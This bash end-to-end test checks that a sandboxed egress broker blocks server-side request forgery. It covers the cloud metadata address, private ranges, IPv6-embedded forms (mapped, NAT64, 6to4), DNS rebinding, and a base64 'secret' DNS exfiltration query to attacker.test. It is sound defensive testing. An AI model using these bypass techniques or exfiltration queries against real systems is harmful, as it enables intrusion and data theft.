#!/usr/bin/env bash
# Which addresses the broker connects to, played by an attacker who owns zones and listens
# everywhere: private, metadata and the host's own addresses, directly, by alias, by rebinding and
# inside IPv6. Two network namespaces: "the host", where the broker's modules run in their jail, and
# "the world". Each target is first shown to be reachable by whoever does not look.
set -u
cd "$(dirname "$0")/../.." || exit 1
# shellcheck source=tests/e2e/lib/tap.sh
. tests/e2e/lib/tap.sh
# shellcheck source=tests/e2e/lib/two_networks.sh
. tests/e2e/lib/two_networks.sh

build=${MATCHLOCK_BUILD:-build/release}
if [ "${1:-}" != inside ]; then
	unshare --user --map-root-user --net --mount true 2>/dev/null ||
		skip_all "no namespaces of users and networks here"
	exec unshare --user --map-root-user --net --mount --pid --fork --kill-child "$0" inside
fi

work=$(mktemp -d)
trap 'umount "$work/world" 2>/dev/null; rm -rf "$work"' EXIT
world=()

start_attacker() {
	local targets=(93.184.216.34 10.0.0.1 169.254.169.254 64:ff9b::a00:1 2002:a00:1::1)
	mkfifo "$work/world.ready" "$work/host.ready"
	in_world python3 tests/e2e/lib/attacker_network.py 93.184.216.34 8080 "${targets[@]}" \
		>"$work/world.log" 3>"$work/world.ready" &
	world+=($!)
	# The host's own services, on its outward addresses.
	python3 tests/e2e/lib/attacker_network.py 127.0.0.1 8080 93.184.216.1 2606:2800:220:1::1 \
		>"$work/host.log" 3>"$work/host.ready" &
	world+=($!)
	read -r _ <"$work/world.ready" && read -r _ <"$work/host.ready"
}

names() { "$build/tests/e2e/egress_names" 93.184.216.34:53 "$@" 2>&1; }
connections() { cat "$work/world.log" "$work/host.log" | grep -c '^connection to'; }

naive() { # ADDRESS: connects without looking
	python3 - "$1" <<-'EOF'
		import socket, sys
		socket.create_connection((sys.argv[1], 8080), timeout=10).recv(1)
	EOF
}

# refused DESCRIPTION NAME ADDRESS WORD: reachable by the address, refused by the name. A listener
# notes connections in order, so one that comes last tells that none is still to be noted.
refused() {
	local before got
	naive "$3"
	ok "$1: a connection that nobody judges arrives" $?
	before=$(connections)
	got=$(names "$2:8080")
	case "$got" in
	"$2:8080 address_blocked: "*"$4"*) ok "$1: refused ($4)" 0 ;;
	*)
		ok "$1: refused ($4)" 1
		echo "# got: $got"
		;;
	esac
	naive "$3"
	same "$1: nothing else arrived" $((before + 1)) "$(connections)"
}

build_network || skip_all "no virtual network here"
start_attacker
ok "the attacker's name server and services run" $?

same "an ordinary name is connected to" "good.test:8080 connected to 93.184.216.34" \
	"$(names good.test:8080)"
refused "metadata service" metadata.test 169.254.169.254 metadata
refused "private address" private.test 10.0.0.1 private
refused "alias to the metadata service" alias.test 169.254.169.254 metadata
refused "one private address among good ones" mixed.test 10.0.0.1 private
refused "IPv4 in IPv6" mapped.test ::ffff:10.0.0.1 IPv4-mapped
refused "NAT64" nat64.test 64:ff9b::a00:1 NAT64
refused "6to4" sixtofour.test 2002:a00:1::1 6to4
refused "the host's own public address" own.test 93.184.216.1 "the host's own"
refused "the host's own public IPv6 address" own6.test 2606:2800:220:1::1 "the host's own"

# A name that is good when it is first asked for, and then is not.
before=$(connections)
same "rebinding: the first answer is used once, the second is refused" \
	"rebind.test:8080 connected to 93.184.216.34
rebind.test:8080 address_blocked: rebind.test resolves to 10.0.0.1 (private)" \
	"$(names rebind.test:8080 rebind.test:8080)"
naive 93.184.216.34
same "rebinding: one connection arrived" $((before + 2)) "$(connections)"

same "an answer that is cut is asked for over a stream" "truncated.test:8080 connected to 93.184.216.34" \
	"$(names truncated.test:8080)"
same "an alias of itself ends" "loop.test:8080 name_not_found: loop.test does not exist or has no address" \
	"$(names loop.test:8080)"
same "a pinned name reaches its private address" "internal.test:8080 connected to 10.0.0.1" \
	"$(names --pin internal.test=10.0.0.1 internal.test:8080)"
same "addresses are no names" "169.254.169.254:8080 is an address
0xa9fea9fe:8080 is an address
[::ffff:10.0.0.1]:8080 is an address" \
	"$(names 169.254.169.254:8080 0xa9fea9fe:8080 '[::ffff:10.0.0.1]:8080')"

# The guest's queries carry nothing out: its DNS answers every name and asks nobody.
same "every name has an answer" "?c2VjcmV0.attacker.test is 198.18.0.1
?more.c2VjcmV0.attacker.test is 198.18.0.2" \
	"$(names '?c2VjcmV0.attacker.test' '?more.c2VjcmV0.attacker.test')"
! grep -q c2VjcmV0 "$work/world.log"
ok "no such query reached the attacker's name server" $?

kill "${world[@]}"
finish
